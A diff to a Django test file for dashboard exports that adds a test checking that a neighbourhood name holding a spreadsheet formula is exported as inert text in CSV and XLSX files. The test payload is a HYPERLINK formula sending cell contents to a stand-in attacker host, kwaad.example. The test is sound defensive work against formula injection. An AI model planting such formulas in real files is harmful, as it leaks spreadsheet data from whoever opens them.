@@ -1,5 +1,6 @@
 """The dashboards: figures per scope, suppression everywhere, rounding for the funder, exports, pulse, survey."""
 
+import csv
 import io
 from datetime import date, datetime, timedelta
 from zoneinfo import ZoneInfo
@@ -187,3 +188,19 @@ def test_out_of_sight_beside_reach_and_a_team_filter(cast: Cast, client):
     south_only = client.get("/inzicht/", {"team": cast.team_south.pk}).content.decode()
     assert cast.south.name in south_only
     assert cast.north.name not in south_only.split("Bereik in")[1]
+
+
+def test_a_formula_in_a_neighbourhood_name_is_text_in_every_export(cast: Cast, client):
+    attack = '=HYPERLINK("https://kwaad.example/?"&A1;"Klik")'
+    cast.north.name = attack
+    cast.north.save()
+    _contacts(cast, "phone", 30)
+    client.force_login(cast.coordinator)
+    exported = client.get("/inzicht/export/reach_everyone.csv").content.decode()
+    labels = [row[0] for row in csv.reader(io.StringIO(exported), delimiter=";")]
+    assert "'" + attack in labels
+    assert not any(label.startswith("=") for label in labels)
+    book = load_workbook(io.BytesIO(client.get("/inzicht/export/reach_everyone.xlsx").content))
+    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row if cell.value == attack]
+    assert cells
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
